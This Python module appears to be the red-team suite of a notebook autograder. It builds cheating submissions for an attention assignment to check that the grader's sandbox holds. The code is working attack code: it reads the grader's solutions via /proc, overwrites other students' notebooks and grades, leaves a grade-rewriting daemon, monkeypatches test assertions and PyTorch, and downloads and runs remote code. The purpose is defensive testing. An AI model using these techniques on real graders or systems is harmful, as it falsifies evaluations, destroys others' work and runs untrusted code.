"""Submissions that try to cheat, for ``classroom.py check`` (the red-team suite). Trusted side.

Each attack is a submission of assignment 1 built from an honest base (the blank student version, the
reference solution, or one of the plausible wrong answers) plus code that tries to get more than the
base deserves, or to hurt the grader or another student. Graded as it should be, each ends with its
base's honest score, and the grader, the other submissions and their grades stay as they were.

| attack | base | what it tries |
|---|---|---|
| read-solutions | blank | find the source notebook, the grader's copy of it or its spec, and run its solutions |
| tamper-others | blank | overwrite the other submissions, the gradebooks, grades.csv, append to the source |
| skip-test-cells | blank | an IPython input transformer that turns every later cell into ``pass`` |
| patched-assertions | inverted-mask | ``torch.testing.assert_close`` and the tests' ``check_close`` made no-ops |
| patched-torch | no-sqrt-scaling | PyTorch's reference attention patched to share the student's mistake |
| edited-metadata | blank | test cells emptied, their points raised, a test cell of its own added |
| daemon | solution | a double-forked daemon that rewrites grades.csv every second; a child that holds stdout open |
| print-100mb | solution | 100 MiB of output |
| allocate-8gb | solution | an 8 GiB tensor |
| network | blank | download the solution from a server (a local one stands for the internet) |
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass

ASSIGNMENT = "a1_masked_attention"
DAEMON_MARKERS = ("sleep 313", "attn-redteam-daemon")  # command lines of the daemon attack's processes
DAEMON_DELAY = 1  # the daemon rewrites grades.csv every second for two minutes

# Where a submission might look for the grader's files: its working folder's ancestors, the paths on
# the command lines of the machine's processes (the grader's, with its folders), their working folders.
FIND = r'''
import glob, json, os
def _grader_paths():
    start = [os.getcwd(), __REPO__]
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            try:
                start.append(os.readlink(f'/proc/{pid}/cwd'))
                start += [a for a in open(f'/proc/{pid}/cmdline', errors='replace').read().split('\0')
                          if a.startswith('/')]
            except Exception:
                pass
    found = set()
    for path in start:
        while path not in ('', '/'):
            found.add(path)
            path = os.path.dirname(path)
    return sorted(found)
'''

READ_SOLUTIONS = FIND + r'''
def _solutions(text):
    if text.lstrip().startswith('{'):
        try:
            cells = json.loads(text).get('cells', [])
        except ValueError:
            return []
        sources = [''.join(c.get('source', '')) if isinstance(c, dict) else '' for c in cells]
    else:
        sources = [part.split('---\n')[-1] for part in text.split('```')]
    return [s for s in sources if '### BEGIN SOLUTION' in s and '_stolen' not in s]  # not this cell
_stolen = []
for _folder in _grader_paths():
    for _pattern in ('assignments/__NAME__.md', 'source/__NAME__/*.ipynb', '*/source/__NAME__/*.ipynb',
                     'work/*.json', '*/work/*.json', '*.ipynb'):
        for _path in glob.glob(os.path.join(_folder, _pattern)):
            try:
                _text = open(_path).read()
            except OSError:
                continue
            for _code in _solutions(_text):
                try:
                    exec(_code, globals())
                    _stolen.append(_path)
                except Exception:
                    pass
print('solutions read from', sorted(set(_stolen)))
'''

TAMPER = FIND + r'''
import sqlite3
_me = os.path.realpath(os.getcwd())
for _folder in _grader_paths():
    for _path in glob.glob(os.path.join(_folder, '*.ipynb')) + glob.glob(os.path.join(_folder, '*', '*.ipynb')):
        if 'tamper-others' not in _path:
            try:
                open(_path, 'w').write('{"cells": []}')  # every other student's submission
            except OSError:
                pass
    for _db in glob.glob(os.path.join(_folder, 'gradebook.db')) + glob.glob(os.path.join(_folder, '*', 'gradebook.db')):
        try:
            with sqlite3.connect(_db) as _c:
                _c.execute('UPDATE grade SET auto_score = 0')
        except Exception:
            pass
    for _csv in glob.glob(os.path.join(_folder, 'grades.csv')):
        try:
            open(_csv, 'w').write('student,status,score\nsolution,failed,0\n')
        except OSError:
            pass
    for _source in glob.glob(os.path.join(_folder, 'assignments', '__NAME__.md')):
        try:
            open(_source, 'a').write('\n<!-- tampered -->\n')
        except OSError:
            pass
'''

SKIP_TEST_CELLS = r'''
get_ipython().input_transformers_post.append(lambda lines: ['pass\n'])
'''

PATCHED_ASSERTIONS = r'''
import torch
torch.testing.assert_close = lambda *args, **kwargs: None
def check_close(*args, **kwargs):
    return None
'''

PATCHED_TORCH = r'''
import torch
import torch.nn.functional as F
_sdpa = F.scaled_dot_product_attention
def _unscaled(q, k, v, attn_mask=None, **kwargs):
    return _sdpa(q, k, v, attn_mask=attn_mask, scale=1.0)
F.scaled_dot_product_attention = _unscaled
torch.nn.functional.scaled_dot_product_attention = _unscaled
'''

DAEMON = FIND + r'''
import subprocess, sys
_targets = sorted({os.path.join(f, 'grades.csv') for f in _grader_paths()
                   if os.path.isdir(os.path.join(f, 'nbgrader')) or os.path.isdir(os.path.join(f, 'work'))
                   or os.path.isfile(os.path.join(f, 'grades.csv'))})
_script = (': attn-redteam-daemon; for i in $(seq 120); do sleep 1; '
           'for t in "$@"; do printf "student,status,score\\nsolution,failed,0\\n" > "$t"; done; done')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['sh', '-c', _script, 'sh', *_targets])
    os._exit(0)
subprocess.Popen(['sleep', '313'], start_new_session=True)  # inherits stdout and stderr: holds them open
print('daemon targets', _targets)
'''

PRINT_100MB = r'''
_line = 'x' * (2**20 - 1)
for _ in range(100):
    print(_line)
'''

ALLOCATE_8GB = r'''
import torch
_big = torch.ones(2**31)  # 8 GiB of float32, every page touched
print(float(_big.sum()))
'''

NETWORK = r'''
import urllib.request
_direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # no proxy: straight to the server
exec(_direct.open('__URL__', timeout=5).read().decode(), globals())
'''


@dataclass
class Attack:
    name: str
    base: str  # "blank", "solution" or "wrong-<name>"
    code: str  # a cell added after the setup cell, or (in_solutions) the content of every solution cell
    what: str
    in_solutions: bool = False  # so that the student's own (blank) cells do not undo it


ATTACKS = [
    Attack("read-solutions", "blank", READ_SOLUTIONS, "read solutions or hidden tests", in_solutions=True),
    Attack("tamper-others", "blank", TAMPER, "write outside its folder, tamper with other grades"),
    Attack("skip-test-cells", "blank", SKIP_TEST_CELLS, "neutralise the tests: input transformer"),
    Attack("patched-assertions", "wrong-inverted-mask", PATCHED_ASSERTIONS, "neutralise the tests: patched assertions"),
    Attack("patched-torch", "wrong-no-sqrt-scaling", PATCHED_TORCH, "neutralise the tests: patched torch function"),
    Attack("edited-metadata", "blank", "", "neutralise the tests: edited metadata"),
    Attack("daemon", "solution", DAEMON, "leave a daemon, hold stdout open"),
    Attack("print-100mb", "solution", PRINT_100MB, "print 100 MB"),
    Attack("allocate-8gb", "solution", ALLOCATE_8GB, "allocate 8 GB"),
    Attack("network", "blank", NETWORK, "use the network", in_solutions=True),
]


def attack_notebook(attack: Attack, base: dict, name: str, repo: str, url: str) -> dict:
    """The submission (a notebook as JSON) of ``attack`` on top of its base notebook."""
    notebook = copy.deepcopy(base)
    code = (attack.code.replace("__REPO__", repr(repo)).replace("__NAME__", name)
            .replace("__URL__", url).replace("__DELAY__", str(DAEMON_DELAY)))
    if attack.name == "edited-metadata":
        for cell in notebook["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade"):
                cell["source"] = "pass\n"
                meta["points"] = 100
        code = "pass\n"
        notebook["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [], "source": code,
                                  "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 100,
                                                            "locked": True, "solution": False,
                                                            "schema_version": 3}}})
        return notebook
    if attack.in_solutions:
        for cell in notebook["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                cell["source"] = code
        return notebook
    # Right after the setup cell, so that it runs before every test in a grader that runs the notebook
    # top to bottom (the harness runs it in the sandbox wherever it stands).
    first_code = next(i for i, c in enumerate(notebook["cells"]) if c["cell_type"] == "code")
    notebook["cells"].insert(first_code + 1, {"cell_type": "code", "execution_count": None, "outputs": [],
                                              "metadata": {}, "source": code})
    return notebook


def solution_code(source_notebook: dict) -> str:
    """The reference solution's cells as one script (what the network attack downloads)."""
    return "\n\n".join("".join(c["source"]) for c in source_notebook["cells"]
                       if c.get("metadata", {}).get("nbgrader", {}).get("solution")
                       or c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "setup")


def dumps(notebook: dict) -> str:
    return json.dumps(notebook, indent=1)
